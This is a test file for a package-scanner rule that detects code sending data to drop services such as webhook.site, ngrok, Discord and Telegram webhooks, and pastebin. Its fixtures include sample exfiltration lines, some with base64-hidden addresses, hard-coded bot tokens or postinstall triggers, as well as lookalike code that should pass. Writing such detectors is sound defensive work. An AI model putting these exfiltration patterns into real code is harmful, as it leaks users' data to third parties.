import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './drop-server.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fetch(\"https://webhook.site/1-2\", { body })",
    "const u = \"https://abc\" + \".ngrok.io/x\"; go(u)",
    "const h = \"https://discord.com/api/webhooks/1/x\"",
    "post(`https://api.telegram.org/bot${t}/sendMessage`)",
    "new URL(\"https://eo1.m.pipedream.net\")",
    "request({ hostname: \"x.oast.fun\" })",
    "picture.src = \"//webhook.site/1-2?v=\" + text",
    "go(atob(\"aHR0cHM6Ly93ZWJob29rLnNpdGUveA==\"))",
  ]) assert.equal(worst(code), 'high', code);
});

test("names of services alone are a hint", () => {
  for (const code of [
    "const root = \"https://api.telegram.org\"",
    "const root = \"https://hooks.slack.com/\"",
    "const host = \"https://loca.lt\"",
    "const KINDS = [{ host: 'hooks.slack.com' }, { host: 'discord.com' }]; const isOne = (url) => KINDS.some(({ host }) => host === url.hostname)",
  ]) assert.equal(worst(code), 'medium', code);
  for (const code of [
    "require('https').request({ host: 'hooks.slack.com', path: way }).end(text)",
    "const { send } = require('./send'); send({ host: 'hooks.slack.com', path: way })",
    "ask({ host: 'hooks.slack.com', path: '/services/T0/B0/x' })",
    "const KINDS = [{ host: 'x.oast.fun' }]",
  ]) assert.equal(findingsOf(rule, { 'a.js': code, 'send.js': '' })[0]?.severity, 'high', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "requests.post(\"https://webhook.site/1\", data=d)",
    "u = f\"https://pastebin.com/raw/{x}\"",
  ]) assert.equal(worst(code, 'a.py'), 'high', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "fetch(\"https://example.org/webhook.site\")",
    "fetch(\"https://discord.com/api/v10/users/1\")",
    "fetch(\"https://mywebhook.site.example.org/x\")",
    "// https://webhook.site/1",
    "const name = \"webhook.site\"",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "# https://webhook.site/1",
    "u = \"https://example.org/pastebin.com\"",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('the page of a service is its name, its subdomains belong to somebody', () => {
  assert.equal(worst('const link = "https://www.file.io"'), 'medium');
  assert.equal(worst('const link = "https://a1b2.ngrok.io"'), 'high');
  assert.equal(worst('const link = "https://www.file.io/a1b2"'), 'high');
});

test('an address that users enter may be asked whether it leads to such a service', () => {
  for (const [path, code] of [
    ['a.py', 'if not url.startswith("https://discord.com/api/webhooks/"):\n    raise ValueError(url)'],
    ['a.py', 'ok = url.startswith(("https://discord.com/api/webhooks/", "https://hooks.slack.com/"))'],
    ['a.js', 'if (!url.startsWith("https://discord.com/api/webhooks/")) throw new Error(url)'],
  ] as const) assert.equal(worst(code, path), 'nothing', code);
  for (const [path, code] of [
    ['a.py', 'requests.post("https://discord.com/api/webhooks/" + x)'],
    ['a.py', 'post("https://discord.com/api/webhooks/")'],
    ['a.js', 'const root = "https://discord.com/api/webhooks/"; if (url.startsWith(root)) go(url)'],
    ['a.js', '"https://discord.com/api/webhooks/".startsWith(x)'],
  ] as const) assert.equal(worst(code, path), 'medium', code);
  assert.equal(worst('if (url.startsWith("https://discord.com/api/webhooks/")) fetch("https://discord.com/api/webhooks/1/x")'), 'high');
  assert.equal(worst('me.startsWith("https://discord.com/api/webhooks/1/x")'), 'high');
});

test('a client of such a service, which callers give their own account', () => {
  const client = 'exports.telegram = ({ botToken, chatId }) => ({ send: (text) => fetch(`https://api.telegram.org/bot${botToken}/sendMessage`, { method: "POST", body: JSON.stringify({ chat_id: chatId, text }) }) })';
  assert.equal(worst(client), 'nothing');
  assert.equal(worst('const key = decode("MTIz"); exports.send = (text) => fetch(`https://api.telegram.org/bot${key}/sendMessage`, { method: "POST", body: text })'), 'high');
  assert.equal(worst('function send(key, text) { fetch(`https://api.telegram.org/bot${key}/sendMessage`, { method: "POST", body: text }) } send(decode("MTIz"), "x")'), 'high');
  assert.deepEqual(findingsOf(rule, { 'a.js': client, 'index.js': 'require("./a").telegram({ botToken: decode("MTIz"), chatId: 1 }).send("x")' }).map(({ severity }) => severity), ['high']);
});

test('good: a client of a service, whose account its callers give, however the address is put together', () => {
  for (const code of [
    "class Bot { constructor(token) { this.base = 'https://api.telegram.org/bot' + token + '/' } call(method, body) { return fetch(this.base + method, { method: 'POST', body }) } } module.exports = { Bot }",
    "class Bot { constructor(token) { this.token = token } call(method, body) { return fetch(`https://api.telegram.org/bot${this.token}/${method}`, { method: 'POST', body }) } } module.exports = { Bot }",
    "exports.call = (token, method) => fetch('https://api.telegram.org/bot' + token + '/' + method)",
  ]) assert.equal(worst(code), 'nothing', code);
  for (const code of [
    "const token = read(); const base = 'https://api.telegram.org/bot' + token + '/'; send(base)",
    "class Bot { constructor(token) { this.base = 'https://api.telegram.org/bot' + token + '/' } } new Bot(parts.join('')).send(text)",
    "class Bot { constructor() { this.token = parts.join('') } call(text) { return fetch(`https://api.telegram.org/bot${this.token}/sendMessage`, { body: text }) } } module.exports = { Bot }",
    "exports.call = (text) => fetch('https://api.telegram.org/bot' + KEY + '/sendMessage', { body: text })",
  ]) assert.equal(worst(code), 'high', code);
});

test('good: an account that whoever starts it has in the environment; bad: one that the script puts there', () => {
  const tell = "fetch(`https://api.telegram.org/bot${TG_BOT}/sendMessage`, { method: 'POST', body })";
  for (const code of [`const { TG_BOT, TG_CHAT } = process.env; ${tell}`, tell.replace('TG_BOT', 'process.env.TG_BOT')]) assert.equal(worst(code), 'nothing', code);
  for (const code of [`const { TG_BOT = '123:abc' } = process.env; ${tell}`, `process.env.TG_BOT = parts.join(''); const { TG_BOT } = process.env; ${tell}`, `Object.assign(process.env, settings); const { TG_BOT } = process.env; ${tell}`, `const TG_BOT = process.env.TG_BOT ?? key; ${tell}`]) assert.equal(worst(code), 'high', code);
  const [script] = ["const { TG_BOT } = process.env; fetch(`https://api.telegram.org/bot${TG_BOT}/sendMessage`, { method: 'POST', body })"];
  assert.equal(findingsOf(rule, { 'a.js': script! }, { original: { scripts: { postinstall: 'TG_BOT=123:abc node a.js' } } })[0]?.severity, 'high', 'a command of the package sets it');
  assert.equal(findingsOf(rule, { 'a.js': `require('./b.js'); ${script}`, 'b.js': 'module.exports = 1' })[0]?.severity, 'high', 'another script may');
  assert.equal(worst(`for (const name of names) process.env[name] = texts[name]; ${script}`), 'high');
  assert.equal(findingsOf(rule, { 'a.js': script!, '.env': 'TG_BOT=123:abc' })[0]?.severity, 'high', 'settings that the package brings');
});
